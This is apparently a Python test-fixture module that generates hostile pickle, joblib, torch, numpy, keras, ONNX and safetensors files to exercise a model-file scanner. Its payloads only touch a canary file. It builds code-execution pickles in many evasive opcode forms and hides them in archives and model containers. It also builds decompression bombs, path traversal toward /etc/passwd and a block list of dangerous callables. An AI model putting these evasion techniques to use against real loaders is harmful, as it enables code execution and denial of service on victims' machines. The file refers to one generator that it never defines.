# ruff: noqa: E501, PLR0915 - opcodes read better unbroken
"""Hostile files, made here: each would touch one canary file, exhaust the machine, or hide something.

Nothing but the canary is ever touched. `LIVE` names those that really do it when a plain `pickle.load` reads them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from pathlib import Path

Made = Iterator[tuple[str, bytes]]
CALLS = (
    "os system", "posix system", "nt system", "os popen", "os.path os.system", "subprocess call", "subprocess Popen",
    "subprocess check_output", "subprocess getoutput", "builtins eval", "builtins exec", "builtins compile",
    "builtins __import__", "builtins getattr", "builtins open", "builtins map", "builtins input", "io open", "_io FileIO",
    "importlib import_module", "importlib.machinery SourceFileLoader", "runpy run_path", "runpy _run_code", "pty spawn",
    "webbrowser open", "pdb run", "bdb Bdb", "code InteractiveInterpreter", "timeit timeit", "timeit main",
    "cProfile run", "profile run", "trace Trace", "doctest debug_script", "functools reduce", "operator attrgetter",
    "operator methodcaller", "operator itemgetter", "pkgutil resolve_name", "marshal loads", "types FunctionType",
    "types CodeType", "ctypes CDLL", "pickle loads", "_pickle loads", "pickle _loads", "shelve open", "joblib load",
    "joblib.numpy_pickle load", "numpy load", "numpy.lib.npyio load", "numpy fromfile", "numpy memmap",
    "numpy.testing._private.utils runstring", "numpy.f2py.crackfortran getlincoef", "torch load", "torch.hub load",
    "torch.jit load", "torch.serialization load", "torch.storage _load_from_bytes", "pandas read_pickle", "pandas eval",
    "sklearn.utils.fixes os.system", "pip main", "pip._internal main", "setuptools sandbox", "logging.config fileConfig",
    "shutil rmtree", "os remove", "os putenv", "socket create_connection", "urllib.request urlopen",
    "smtplib SMTP", "ssl get_server_certificate", "http.client HTTPConnection", "sys settrace", "asyncio run",
    "multiprocessing.util spawnv_passfds", "multiprocessing Process", "threading Thread", "codecs open", "venv create",
    "ensurepip _run_pip", "distutils.file_util write_file", "test.support.script_helper assert_python_ok",
    "zipimport zipimporter", "uuid _get_command_stdout", "dill loads", "cloudpickle loads", "cloudpickle.cloudpickle _make_function",
    "yaml unsafe_load", "IPython start_ipython", "collections namedtuple", "inspect getattr_static", "weakref finalize",
    "atexit register", "signal signal", "tempfile mktemp", "linecache getlines", "tkinter Tk", "ast literal_eval",
    "string Formatter", "re _compile", "site addsitedir", "copyreg pickle", "copyreg add_extension", "gc get_objects",
)  # fmt: skip


@cache
def everything(canary: Path) -> Mapping[str, bytes]:
    """Returns all hostile files by name, made once."""
    return dict(corpus(canary))


def corpus(canary: Path) -> Made:
    """Yields all hostile files, by name."""
    yield from small(canary)
    yield from costly(f"touch {canary}")


def small(canary: Path) -> Made:
    """Yields all of them but those that take long to make and to look at."""
    for make in (calls, forms, hidden, joblibs, torches, archives, arrays, configurations, messages, texts):
        yield from make(f"touch {canary}")


def system(command: str, protocol: int = 2) -> bytes:
    """Returns a pickle that runs `command`."""
    return bytes([0x80, protocol]) + b"cos\nsystem\n" + text(command) + b"\x85R."


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def calls(command: str) -> Made:
    for call in CALLS:
        module, name = call.split()
        yield f"call-{module}.{name}-global", b"\x80\x02c" + f"{module}\n{name}\n".encode() + text(command) + b"\x85R."
    for call in CALLS[:24]:
        module, name = call.split()
        yield (
            f"call-{module}.{name}-stack",
            b"\x80\x04" + short(module) + short(name) + b"\x93" + text(command) + b"\x85R.",
        )


LIVE = ("form-proto0", "form-proto1", "form-proto2", "form-stack", "form-memo-strings", "form-inst", "form-obj",
        "form-popped", "form-cut", "form-string", "form-unicode", "form-binstring", "form-renamed", "form-put",
        "form-twice-proto", "form-framed", "form-in-dict", "form-in-set-state")  # fmt: skip


def forms(command: str) -> Made:
    """Yields one call in all the ways in which a pickle can write it."""
    word, run = command.encode(), text(command) + b"\x85R"
    stack = b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x94"
    yield "form-proto0", b"cos\nsystem\n(S'" + word + b"'\ntR."
    yield "form-proto1", b"cos\nsystem\n(U" + bytes([len(word)]) + word + b"tR."
    yield "form-proto2", system(command)
    yield "form-stack", stack + b"\x93" + run + b"."
    yield "form-memo-strings", stack + b"00h\x00h\x01\x93" + run + b"."
    yield "form-put", b"\x80\x04" + short("os") + b"q\x05" + short("x") + b"q\x05" + short("os") + b"q\x05000" \
        + b"h\x05" + short("system") + b"\x93" + run + b"."  # fmt: skip
    yield "form-inst", b"(S'" + word + b"'\nios\nsystem\n."
    yield "form-obj", b"\x80\x02(cos\nsystem\n" + text(command) + b"o."
    yield "form-popped", b"\x80\x02cos\nsystem\n" + run + b"0N."
    yield "form-popped-obj", b"\x80\x02(cos\nsystem\n" + text(command) + b"o0N."
    yield "form-cut", b"\x80\x02cos\nsystem\n" + run
    yield "form-broken", b"\x80\x02cos\nsystem\n" + run + b"\xff\xff"
    yield "form-string", b"S'os'\nS'system'\n\x93" + run + b"."
    yield "form-string-escaped", b"S'\\x6fs'\nS'sys\\164em'\n\x93" + run + b"."
    yield "form-unicode", b"V\\u006fs\nVsystem\n\x93" + run + b"."
    yield "form-binstring", b"T\x02\x00\x00\x00osU\x06system\x93" + run + b"."
    yield "form-renamed", b"c__builtin__\neval\n" + text(f"__import__('os').system({command!r})") + b"\x85R."
    yield "form-commands", b"ccommands\ngetoutput\n" + run + b"."
    yield "form-twice-proto", b"\x80\x05\x80\x02cos\nsystem\n" + run + b"."
    yield "form-proto-later", b"cos\nsystem\n" + run + b"\x80\x04."
    yield "form-framed", b"\x80\x04\x95" + struct.pack("<Q", len(run) + 12) + b"cos\nsystem\n" + run + b"."
    yield "form-in-dict", b"\x80\x02}(K\x01cos\nsystem\n" + run + b"u."
    yield "form-in-set-state", b"\x80\x02ccollections\nOrderedDict\n)R}" + text("a") + b"cos\nsystem\n" + run + b"sb."
    yield "form-newobj", b"\x80\x02cos\nsystem\n" + text(command) + b"\x85\x81."
    yield "form-newobj-ex", b"\x80\x04cos\nsystem\n" + text(command) + b"\x85}\x92."
    yield "form-newobj-function", b"\x80\x02ccopyreg\n__newobj__\ncsubprocess\nPopen\n" + text(command) + b"\x86R."
    yield "form-reconstructor", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR."
    yield "form-partial", b"\x80\x02cfunctools\npartial\ncos\nsystem\n" + text(command) + b"\x86R)R."
    yield "form-partial-called", b"\x80\x02cfunctools\npartial\ncbuiltins\nlist\n\x85R)R."
    memmap = b"\x80\x02cfunctools\npartial\ncnumpy\nmemmap\n\x85R(cnumpy\nmemmap\n" + text("x") + b"\x85}Nt"
    yield "form-partial-memmap", memmap + b"b."
    clip = memmap.replace(b"cnumpy\nmemmap\n\x85", b"cnumpy\nclip\n\x85")
    yield "form-partial-swapped", clip + b"b."
    yield "form-partial-newobj", b"\x80\x02cfunctools\npartial\ncnumpy\ndtype\n\x85\x81."
    yield "form-defaultdict", b"\x80\x02ccollections\ndefaultdict\ncos\nsystem\n\x85R."
    yield "form-dotted", b"\x80\x04" + short("joblib") + short("numpy_pickle_utils.os.system") + b"\x93" + run + b"."
    yield "form-dotted-numpy", b"\x80\x04" + short("numpy") + short("testing.os.system") + b"\x93" + run + b"."
    yield "form-only-named", b"\x80\x02cos\nsystem\n."
    yield "form-import-only", b"\x80\x02cantigravity\nfly\n."
    yield "form-build-global", b"\x80\x02cbuiltins\ndict\n}" + text("get") + b"K\x01sb."
    yield (
        "form-build-class",
        b"\x80\x02csklearn.svm._classes\nSVC\n)\x81N}" + text("__class__") + b"cnumpy\nndarray\ns\x86b.",
    )
    yield "form-build-reduce", b"\x80\x02csklearn.svm._classes\nSVC\n)\x81}" + text("__reduce__") + b"K\x01sb."
    yield "form-build-module", b"\x80\x02cnumpy\ntesting\n}" + text("x") + b"K\x01sb."
    yield "form-ufunc", b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n" + text("os") + text("system") + b"\x86R."
    yield "form-ufunc-load", b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n" + text("numpy") + text("load") + b"\x86R."
    yield (
        "form-generator",
        b"\x80\x02cnumpy.random._pickle\n__generator_ctor\n" + text(command) + b"cos\nsystem\n\x86R.",
    )
    yield "form-bit-generator", b"\x80\x02cnumpy.random._pickle\n__bit_generator_ctor\ncsubprocess\nPopen\n\x85R."
    yield (
        "form-index",
        b"\x80\x02cpandas.core.indexes.base\n_new_Index\ncsubprocess\nPopen\n}"
        + text("args")
        + text(command)
        + b"s\x86R.",
    )
    yield "form-new-obj", b"\x80\x02csklearn.neighbors._kd_tree\nnewObj\ncsubprocess\nPopen\n\x85R."
    yield "form-codec", b"\x80\x02c_codecs\nencode\n" + text("a") + text("zlib_codec") + b"\x86R."
    yield "form-hooks", b"\x80\x02ctorch._utils\n_rebuild_parameter\n(N\x88cos\nsystem\ntR."
    yield "form-call-instance", b"\x80\x02csklearn.svm._classes\nSVC\n)\x81)R."
    yield "form-append", b"\x80\x02cos\nsystem\n" + text(command) + b"a."
    yield "form-setitem", b"\x80\x02cos\nenviron\n" + text("LD_PRELOAD") + text("x.so") + b"s."
    yield (
        "form-zone",
        b"\x80\x04"
        + short("zoneinfo")
        + short("ZoneInfo._unpickle")
        + b"\x93"
        + text("../../etc/passwd")
        + b"K\x01\x86R.",
    )
    yield "form-type", b"\x80\x02cbuiltins\ntype\n" + text("X") + b")}\x87R."
    yield "form-extension", b"\x80\x02\x82\x01" + run + b"."
    yield "form-extension4", b"\x80\x02\x84\x01\x00\x00\x00)R."
    yield "form-persid", b"\x80\x02Pos.system\n."
    yield "form-binpersid", b"\x80\x02" + text("os.system") + b"Q."
    yield "form-buffer", b"\x80\x05\x97)R."
    yield "form-unknown-name", b"\x80\x04K\x01K\x02\x93)R."
    yield "form-null-name", b"\x80\x04" + short("os\0") + short("system") + b"\x93" + run + b"."
    yield "form-foreign-called", b"\x80\x02cstranger\nrun\n" + run + b"."
    yield "form-foreign-after-own", b"\x80\x02cmine\nModel\n)\x810cos\nsystem\n" + run + b"."


def hidden(command: str) -> Made:
    """Yields harmless beginnings with the call behind them, and disguises."""
    bad, good = system(command), pickle.dumps({"a": 1})
    yield "hidden-second", good + bad
    yield "hidden-zeros", good + b"\0" * 512 + bad
    yield "hidden-garbage", good + b"\xde\xad\xbe\xef" + bad
    yield "hidden-third", good + pickle.dumps([1]) + bad
    yield "hidden-far", pickle.dumps(list(range(100_000))) + bad
    yield "hidden-in-text", pickle.dumps("x" * 300_000)[:-1] + b"0" + bad[2:]
    yield "hidden-deep", b"\x80\x02" + b"]" * 50 + b"a" * 49 + bad[2:-1] + b"."
    for kind, pack in PACKS.items():
        yield f"hidden-{kind}", pack(bad)
        yield f"hidden-{kind}-second", pack(good) + pack(bad)
    yield "hidden-gzip-gzip", gzip.compress(gzip.compress(bad))
    yield "hidden-zlib-tail", zlib.compress(good) + bad
    yield "hidden-zlib-zeros", zlib.compress(good) + b"\0" * 64 + bad
    yield "hidden-png", b"\x89PNG\r\n\x1a\n" + b"I" * 64 + zipped({"data.pkl": bad})
    yield "hidden-pickle-zip", good + zipped({"data.pkl": bad})
    yield "hidden-7z", b"7z\xbc\xaf\x27\x1c" + bad
    yield "hidden-lz4", b"\x04\x22\x4d\x18" + bad
    yield "hidden-old", b"0"[:0] + b"(lp0\n0" + b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."


PACKS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
}  # fmt: skip


def costly(command: str) -> Made:
    """Yields what would take all memory or time."""
    big = b"\x8a\x06" + (1 << 36).to_bytes(6, "little")
    yield "costly-bytearray", b"\x80\x02cbuiltins\nbytearray\n" + big + b"\x85R."
    yield "costly-bytes", b"\x80\x03cbuiltins\nbytes\n" + big + b"\x85R."
    yield "costly-bytes-new", b"\x80\x03cbuiltins\nbytes\ncbuiltins\nbytes\n0" + big + b"\x85\x81."
    yield "costly-list-range", b"\x80\x03cbuiltins\nlist\ncbuiltins\nrange\n" + big + b"\x85R\x85R."
    yield "costly-set-range", b"\x80\x03cbuiltins\nset\ncbuiltins\nrange\n" + big + b"\x85R\x85R."
    yield "costly-zeros", b"\x80\x03cnumpy\nzeros\n" + big + b"\x85R."
    yield "costly-ndarray", b"\x80\x03cnumpy\nndarray\n" + big + b"\x85\x81."
    yield (
        "costly-reconstruct",
        b"\x80\x03cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\n" + big + b"\x85C\x01b\x87R.",
    )
    yield "costly-memo", b"\x80\x02Kr\xff\xff\xff\x7f."
    yield "costly-memo-line", b"K\x01p99999999999\n."
    yield "costly-dup", b"\x80\x02]" + b"2" * 3_000_000 + b"."
    yield "costly-dup-tuples", b"\x80\x02)" + b"2\x86" * 200 + b"."
    yield (
        "costly-tuples",
        b"\x80\x04)\x94" + b"".join(b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x94" for i in range(200)) + b".",
    )
    yield "costly-depth", b"\x80\x02" + b"(" * 1_000_000 + b"."
    yield "costly-nested", b"\x80\x02N" + b"\x85" * 1_000_000 + b"."
    yield "costly-stack", b"\x80\x02" + b"N" * 5_000_000 + b"."
    yield "costly-boxes", b"\x80\x02(" + b"]" * 4_000_000 + b"t."
    yield "costly-long-bytes", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x."
    yield "costly-long-text", b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"x."
    yield "costly-long-buffer", b"\x80\x05\x96" + struct.pack("<Q", 1 << 33) + b"x."
    yield "costly-frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N."
    yield "costly-number", b"\x80\x02\x8b" + struct.pack("<I", 1 << 30) + b"x."
    yield "costly-digits", b"\x80\x02I" + b"9" * 500_000 + b"\n."
    yield "costly-bomb-zlib", zlib.compress(b"\0" * 300_000_000)
    yield "costly-bomb-pickle", zlib.compress(b"\x80\x02" + b"N0" * 20_000_000 + b"N.")
    yield "costly-bomb-xz", lzma.compress(b"\0" * 100_000_000, preset=0)
    yield "costly-bomb-bz2", bz2.compress(b"\0" * 100_000_000)
    yield "costly-bomb-zip", zipped({"a.pkl": b"\x80\x02" + b"N0" * 20_000_000 + b"N."}, zipfile.ZIP_DEFLATED)
    nested = system(command)
    for _ in range(12):
        nested = zipped({"a": nested})
    yield "costly-nested-zip", nested
    nested = system(command)
    for _ in range(12):
        nested = gzip.compress(nested)
    yield "costly-nested-gzip", nested


WRAPPER = (
    b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}(\x8c\x08subclass\x8c\x05numpy\x8c\x07ndarray"
    b"\x93\x8c\x05shapeK%c\x85\x8c\x05order\x8c\x01C\x8c\x05dtype\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02%s\x89\x88\x87R(K\x03"
    b"\x8c\x01%cNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK%ctb\x8c\nallow_mmap\x88%sub"
)
ALIGNED = b"\x8c\x1bnumpy_array_alignment_bytesK\x10"


def wrapper(count: int, code: bytes = b"f8", alignment: bytes = ALIGNED) -> bytes:
    """Returns the opcodes by which joblib announces an array of `count` elements."""
    is_object = code == b"O8"
    return WRAPPER % (count, code, b"|" if is_object else b"<", 63 if is_object else 0, alignment)


def joblibs(command: str) -> Made:
    bad = system(command)
    tail = bad[2:-1] + b"."
    yield "joblib-after-array", wrapper(4) + b"\x02\xff\xff" + b"\0" * 32 + b"0" + tail
    yield "joblib-inner", wrapper(4, b"O8") + bad + b"."
    yield "joblib-inner-second", wrapper(1, b"O8") + pickle.dumps([1]) + b"0" + tail
    yield "joblib-in-array", wrapper(20, alignment=b"") + tail.ljust(160, b"\0") + b"."
    yield "joblib-in-padding", wrapper(4) + b"c" + b"os\nsystem\n" + tail[11:].ljust(200, b"\0") + b"."
    yield (
        "joblib-wide-alignment",
        wrapper(4, alignment=ALIGNED[:-1] + b"\xff") + b"\x63" + b"os\nsystem\n".ljust(99, b"N") + b"\0" * 32 + b".",
    )
    yield "joblib-inner-wrapper", wrapper(1, b"O8") + wrapper(20) + b"\x01\xff" + tail.ljust(160, b"\0") + b"." + b"."
    yield "joblib-cut", wrapper(100) + b"\x01\xff" + b"\0" * 16
    yield "joblib-lying-type", wrapper(2, b"O8").replace(b"K\x3ftb", b"K\x00tb") + b"\x01\xff" + b"\0" * 16 + b"."
    yield "joblib-objects-as-numbers", wrapper(2).replace(b"K\x00tb", b"K\x3ftb") + bad + b"."
    old = b"\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}" + text("filename") + text("/etc/passwd") + b"sb."
    yield "joblib-old-wrapper", old
    yield (
        "joblib-memmap",
        wrapper(2)
        .replace(b"\x8c\x07ndarray", b"\x8c\x06system")
        .replace(b"\x8c\x05numpy\x8c\x06", b"\x8c\x02os\x8c\x06"),
    )
    for kind, pack in PACKS.items():
        yield f"joblib-{kind}", pack(wrapper(4) + b"\x02\xff\xff" + b"\0" * 32 + b"0" + tail)


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def torch_zip(pickled: bytes, **others: bytes) -> bytes:
    names = {name.replace("__", "/"): data for name, data in others.items()}
    return zipped({"m/data.pkl": pickled, "m/version": b"3\n", "m/byteorder": b"little", **names})


def torches(command: str) -> Made:
    bad, good = system(command), pickle.dumps({}, 2)
    storage = b"\x80\x02(" + text("storage") + b"%s" + text("0") + text("cpu") + b"%stQ."
    real = storage % (b"ctorch\nFloatStorage\n", b"K\x02")
    yield "torch-system", torch_zip(bad)
    yield "torch-behind", torch_zip(good + bad)
    yield "torch-constants", torch_zip(good, **{"m__constants.pkl": bad})
    yield "torch-extra", torch_zip(good, **{"m__extra__hidden.bin": bad})
    yield "torch-root", zipped({"m/version": b"3", "m/data.pkl": good, "data.pkl": bad})
    yield "torch-second-root", zipped({"a/version": b"3", "a/data.pkl": good, "b/version": b"3", "b/data.pkl": bad})
    yield "torch-script", torch_zip(good, **{"m__code____torch__.py": b"def f(): pass"})
    yield "torch-script-system", torch_zip(bad, **{"m__code____torch__.py": b"def f(): pass"})
    yield "torch-deflated", zipped({"m/data.pkl": bad, "m/version": b"3"}, zipfile.ZIP_DEFLATED)
    yield "torch-no-storage", torch_zip(real)
    yield "torch-short-storage", torch_zip(real, m__data__0=b"1234")
    yield "torch-odd-storage", torch_zip(storage % (b"cos\nsystem\n", b"K\x02"), m__data__0=b"12345678")
    yield "torch-persid", torch_zip(b"\x80\x02" + text("os.system") + b"Q.")
    view = b"ctorch._utils\n_rebuild_tensor_v2\n("
    for name, place in {"offset": b"K\x09K\x01\x85K\x01\x85", "size": b"K\x00M\xff\xff\x85K\x01\x85", "stride": b"K\x00K\x02\x85M\xff\xff\x85",
                        "negative": b"J\xff\xff\xff\xffK\x01\x85K\x01\x85"}.items():  # fmt: skip
        pickled = b"\x80\x02" + view + real[2:-1] + place + b"\x89NtR."
        yield f"torch-{name}", torch_zip(pickled, m__data__0=b"12345678")
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    yield "torch-legacy", magic + bad + pickle.dumps([], 2)
    yield "torch-legacy-system", magic[:-4] + bad + good + pickle.dumps([], 2)
    yield "torch-legacy-behind", magic + good + pickle.dumps([], 2) + bad


def archives(command: str) -> Made:
    bad, good = system(command), pickle.dumps([1])
    plain = zipped({"a.pkl": bad})
    yield "zip-system", plain
    yield "zip-deflated", zipped({"a.pkl": bad}, zipfile.ZIP_DEFLATED)
    yield "zip-bz2", zipped({"a.pkl": bad}, zipfile.ZIP_BZIP2)
    yield "zip-lzma", zipped({"a.pkl": bad}, zipfile.ZIP_LZMA)
    yield "zip-in-zip", zipped({"b.zip": plain})
    yield "zip-prefixed", b"x" * 10 + plain
    yield "zip-suffixed", plain + b"x" * 10
    yield "zip-commented", plain[:-2] + b"\x04\x00PK\5\6"
    yield "zip-renamed", zipped({"a.txt": bad})
    yield "zip-up", zipped({"../a.txt": b"x"})
    yield "zip-absolute", zipped({"/a.txt": b"x"})
    yield "zip-windows", zipped({"..\\a.txt": b"x"}).replace(b"../a.txt", b"..\\a.txt")
    two = zipped({"a.pkl": good, "b.pkl": bad})
    yield "zip-twice", two.replace(b"b.pkl", b"a.pkl")
    yield "zip-twice-case", two.replace(b"b.pkl", b"A.pkl")
    yield "zip-local-name", two.replace(b"b.pkl", b"c.txt", 1)
    yield "zip-encrypted", flagged(plain, 1)
    yield "zip-local-method", plain[:8] + b"\x08\0" + plain[10:]
    yield "zip-local-size", plain[:18] + struct.pack("<I", 3) + plain[22:]
    yield "zip-central-size", plain.replace(struct.pack("<2I", len(bad), len(bad)), struct.pack("<2I", 3, 3))
    yield "zip-hole", holed(good, bad)
    yield "zip-empty-with-bytes", bad + zipped({})
    yield "tar-system", tarred({"a.pkl": bad})
    yield "tar-up", tarred({"../a": b"x"})
    yield "tar-link", tarred({"a": b""}, tarfile.SYMTYPE)
    yield "tar-hard-link", tarred({"a": b""}, tarfile.LNKTYPE)
    yield "tar-device", tarred({"a": b""}, tarfile.CHRTYPE)
    yield "tar-behind", tarred({"a": b"x"}) + bad
    yield "tar-gzip", gzip.compress(tarred({"a.pkl": bad}))
    name = f"cos\nsystem\n(S'{command}'\ntR."
    yield "tar-named-as-pickle", tarred({name: b"x"}) if len(name) < 100 else tarred({"a.pkl": bad})


def flagged(data: bytes, flag: int) -> bytes:
    central = data.index(b"PK\1\2")
    data = data[:6] + bytes([data[6] | flag]) + data[7:]
    return data[: central + 8] + bytes([data[central + 8] | flag]) + data[central + 9 :]


def holed(good: bytes, bad: bytes) -> bytes:
    data = zipped({"a.pkl": good})
    central, end = data.index(b"PK\1\2"), data.index(b"PK\5\6")
    moved = struct.pack("<I", central + len(bad))
    return data[:central] + bad + data[central:end] + data[end : end + 16] + moved + data[end + 20 :]


def tarred(members: dict[str, bytes], kind: bytes = tarfile.REGTYPE) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.type, info.size, info.linkname = kind, len(data), "/etc/passwd"
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def npy(descr: str, data: bytes, shape: str = "(1,)") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}\n".encode()
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + data


def arrays(command: str) -> Made:
    bad = system(command)
    yield "npy-objects", npy("'|O'", bad)
    yield "npy-fields", npy("[('a', '|O')]", bad)
    yield "npy-nested-fields", npy("[('a', [('b', '<f8'), ('c', '|O8')])]", bad)
    yield "npy-behind", npy("'<f8'", b"\0" * 8 + bad)
    yield "npy-code", npy("__import__('os').system('x')", b"\0" * 8)
    yield "npy-huge", npy("'<f8'", b"", "(1 << 60,)")
    yield "npy-huger", npy("'<f8'", b"", f"({1 << 60},)")
    yield "npy-long-header", b"\x93NUMPY\x02\0" + struct.pack("<I", 1 << 30) + b"{"
    yield "npz-objects", zipped({"a.npy": npy("'|O'", bad)})
    yield "npz-pickle", zipped({"a.npy": bad})


def keras_zip(config: object) -> bytes:
    return zipped({"metadata.json": b"{}", "config.json": json.dumps(config).encode(), "model.weights.h5": h5()})


def h5(attribute: bytes = b"") -> bytes:
    return b"\x89HDF\r\n\x1a\n\0" + b"\0" * 87 + b"x" * 40 + attribute + b"\0" * 40


def layer(name: str, **others: object) -> dict[str, object]:
    return {"module": "keras.layers", "class_name": name, "config": {"name": "a"}, "registered_name": None, **others}


def configurations(command: str) -> Made:
    def model(inner: object) -> dict[str, object]:
        return layer("Sequential", module="keras", config={"name": "m", "layers": [layer("Dense"), inner]})

    hostile = {
        "lambda": layer("Lambda", config={"function": {"class_name": "__lambda__", "config": {"code": "x"}}}),
        "inner-lambda": layer("Dense", config={"activation": {"class_name": "__lambda__", "config": {"code": "x"}}}),
        "module": {"module": "os", "class_name": "system", "config": {"command": command}},
        "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
        "builtin": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"},
        "subprocess": {"module": "subprocess", "class_name": "Popen", "config": {"args": command}},
        "keras-utils": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        "keras-loading": {"module": "keras.models", "class_name": "function", "config": "load_model"},
        "torch-wrapper": layer("TorchModuleWrapper", config={"module": "x"}),
        "saved-model": layer("TFSMLayer", config={"filepath": "/tmp/x"}),
        "vocabulary": layer("StringLookup", config={"vocabulary": "/etc/passwd"}),
        "typespec": {"class_name": "__typespec__", "module": "os", "spec_name": "system"},
        "foreign": {"module": "strangers", "class_name": "Layer", "config": {}, "registered_name": "strangers>Layer"},
        "no-text": {"module": "keras.layers", "class_name": 7, "config": {}},
    }
    for name, inner in hostile.items():
        yield f"keras-{name}", keras_zip(model(inner))
        yield f"keras-h5-{name}", h5(json.dumps(model(inner)).encode())
        yield f"keras-json-{name}", json.dumps(model(inner)).encode()
    escaped = (
        json.dumps(model(hostile["lambda"])).replace("class_name", "cl\\u0061ss_name").replace("Lambda", "\\u004cambda")
    )
    yield "keras-h5-escaped", h5(escaped.encode())
    yield "keras-h5-blanks", h5(b"{" + b" " * 3000 + json.dumps(model(hostile["lambda"])).encode()[1:])
    yield "keras-h5-long-key", h5(b'{"' + b"k" * 5000 + b'": 1,' + json.dumps(model(hostile["lambda"])).encode()[1:])
    yield "keras-h5-filtered", h5(b"FRHP\0\x08\0\x10\0" + b"\0" * 50)
    yield "keras-weights", zipped({"metadata.json": b"{}", "config.json": b"{}", "model.weights.h5": system(command)})
    yield "keras-assets", zipped({"metadata.json": b"{}", "config.json": b"{}", "assets/a": system(command)})
    for name, node in {
        "class": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode"},
        "function": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"},
        "method": {"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode"},
        "operator": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode"},
        "type": {"__class__": "eval", "__module__": "builtins", "__loader__": "TypeNode"},
        "foreign": {"__class__": "Model", "__module__": "strangers", "__loader__": "ObjectNode"},
    }.items():
        schema = {
            "__class__": "SVC",
            "__module__": "sklearn.svm._classes",
            "__loader__": "ObjectNode",
            "content": [node],
        }
        yield f"skops-{name}", zipped({"schema.json": json.dumps(schema).encode()})
    yield "skops-pickle", zipped({"schema.json": b"{}", "1.npy": npy("'|O'", system(command))})


def field(number: int, data: bytes | int) -> bytes:
    if isinstance(data, int):
        return bytes([number << 3, data])
    size, length = len(data), b""
    while size >= 128:
        length += bytes([size & 127 | 128])
        size >>= 7
    tag = number << 3 | 2
    return (bytes([tag]) if tag < 128 else bytes([tag & 127 | 128, tag >> 7])) + length + bytes([size]) + data


def onnx(graph: bytes) -> bytes:
    return field(1, 8) + field(2, b"maker") + field(7, graph) + field(8, field(2, 17))


def safetensors(header: str, data: bytes = b"\0" * 8, length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header.encode() + data


def messages(command: str) -> Made:
    for name, place in {"up": "../../etc/passwd", "absolute": "/etc/passwd", "nested": "a/b", "windows": "a\\b",
                        "drive": "c:x", "empty": "", "dots": "..", "null": "a\0b"}.items():  # fmt: skip
        entry = field(13, field(1, b"location") + field(2, place.encode()))
        yield f"onnx-{name}", onnx(field(5, entry))
        yield f"onnx-attribute-{name}", onnx(field(1, field(5, field(5, entry))))
    yield "onnx-python", onnx(field(1, field(4, b"PyOp") + field(7, b"ai.onnx.contrib")))
    deep = b""
    for _ in range(200):
        deep = field(1, field(5, field(6, deep)))
    yield "onnx-deep", onnx(deep)
    yield "savedmodel", field(1, 1) + field(2, b"graph")
    one = '"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}'
    for name, data in {
        "overlap": safetensors(
            f'{{{one}, "b": {{"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}}}', b"\0" * 12
        ),
        "hole": safetensors('{"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}'),
        "twice": safetensors(f"{{{one}, {one}}}"),
        "behind": safetensors(f"{{{one}}}", b"\0" * 8 + system(command)),
        "cut": safetensors(f"{{{one}}}", b"\0" * 4),
        "size": safetensors('{"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}'),
        "type": safetensors('{"a": {"dtype": "PY", "shape": [2], "data_offsets": [0, 8]}}'),
        "negative": safetensors('{"a": {"dtype": "F32", "shape": [-2], "data_offsets": [0, 8]}}'),
        "json": safetensors('{"a": '),
        "name": safetensors(f"{{{one}}}".replace('"a"', '"a\\u0000"')),
        "long": safetensors(f"{{{one}}}", length=1 << 40),
        "deep": safetensors('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}"),
    }.items():
        yield f"safetensors-{name}", data
    yield "gguf-counts", b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1)
    yield "gguf-cut", b"GGUF" + struct.pack("<IQQ", 3, 1, 5) + struct.pack("<Q", 3) + b"abc"
    yield (
        "gguf-array",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + struct.pack("<IIQ", 9, 8, 1 << 50),
    )
